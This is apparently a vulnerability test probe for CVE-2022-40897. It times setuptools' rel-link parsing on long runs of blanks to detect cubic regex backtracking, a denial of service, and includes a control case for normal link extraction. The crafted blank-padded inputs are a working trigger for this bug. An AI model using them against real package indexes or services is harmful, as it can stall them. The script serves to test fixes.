# /// vertice-probe
# id = "PYSEC-2022-43012"
# aliases = ["CVE-2022-40897"]
# package = "setuptools"
# summary = "The pattern for rel links in an index page backtracks in the cube of a run of blanks, a denial of service."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = [
#   "setuptools.package_index",
#   "setuptools.package_index.PackageIndex",
#   "setuptools.package_index.find_external_links",
# ]
#
# [[affected]]
# package = "setuptools"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "65.5.1" }] }]
#
# [cases]
# attack = "time for blanks after rel= grows with the cube of their number"
# [cases.variants]
# index_page = "the same growth while a package index scans a page with many rel= attributes"
# [cases.controls]
# links = "home page and download links of a page are found"
#
# [test]
# vulnerable = "65.5.0"
# fixed = "65.5.1"
# ///
"""CVE-2022-40897: cubic backtracking over rel links.

The pattern of the fixed release is still quadratic over other characters; that is not what this probe measures.
"""

import json
import sys
import time
import warnings

warnings.simplefilter("ignore")
SPENT = 0.1  # seconds at least for the fastest of several calls
FLOOR = 0.002  # seconds; below it a time is noise
THRESHOLD = 32.0  # x4 input: geometric middle of quadratic (16) and cubic (64)


def load():
    from setuptools import package_index

    return package_index


def fastest(call):
    best, spent, calls = None, 0.0, 0
    # Of what is quick there are more: else a busy neighbour may be there all the while.
    while calls < 3 or (spent < SPENT and calls < 100):
        start = time.process_time()
        call()
        took = time.process_time() - start
        best, spent, calls = took if best is None else min(best, took), spent + took, calls + 1
    return best


def growth(scan, size):
    small, large = fastest(lambda: scan(size)), fastest(lambda: scan(4 * size))
    ratio = large / max(small, FLOOR)
    facts = "%d repeats %.4f s, %d repeats %.4f s, ratio %.1f" % (size, small, 4 * size, large, ratio)
    return ("exploited" if ratio > THRESHOLD else "blocked"), facts


def attack():
    find = load().find_external_links

    def scan(count):
        # the home page link behind the blanks shows that the page was really scanned
        found = list(find("http://127.0.0.1/", "<th>Home Page<td><a href='home'>\n<a rel=" + " " * count))
        if found != ["http://127.0.0.1/home"]:
            raise RuntimeError("the page was not scanned: %r" % found)

    return growth(scan, 200)


def index_page():
    package_index = load()

    def scan(count):
        index = package_index.PackageIndex("http://127.0.0.1/simple/", search_path=[])
        index.process_index("http://127.0.0.1/simple/x/1.0", '<a href="../y/2.0">y</a>\n<a' + " rel= " * count)
        if sorted(index.package_pages) != ["x", "y"]:
            raise RuntimeError("the page was not scanned: %r" % index.package_pages)

    return growth(scan, 45)


def links():
    page = (
        "<a rel='homepage' href='home.html'>h</a> <A HREF=\"get.html\" REL=download>d</A> <a rel='x' href='no'>n</a>"
        "<th>Home Page<td><a href='old.html'>"
    )
    got = sorted(load().find_external_links("http://127.0.0.1/", page))
    wanted = ["http://127.0.0.1/" + name for name in ("get.html", "home.html", "old.html")]
    return ("works", "three links found") if got == wanted else ("broken", repr(got))


CASES = {"attack": attack, "index_page": index_page, "links": links}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
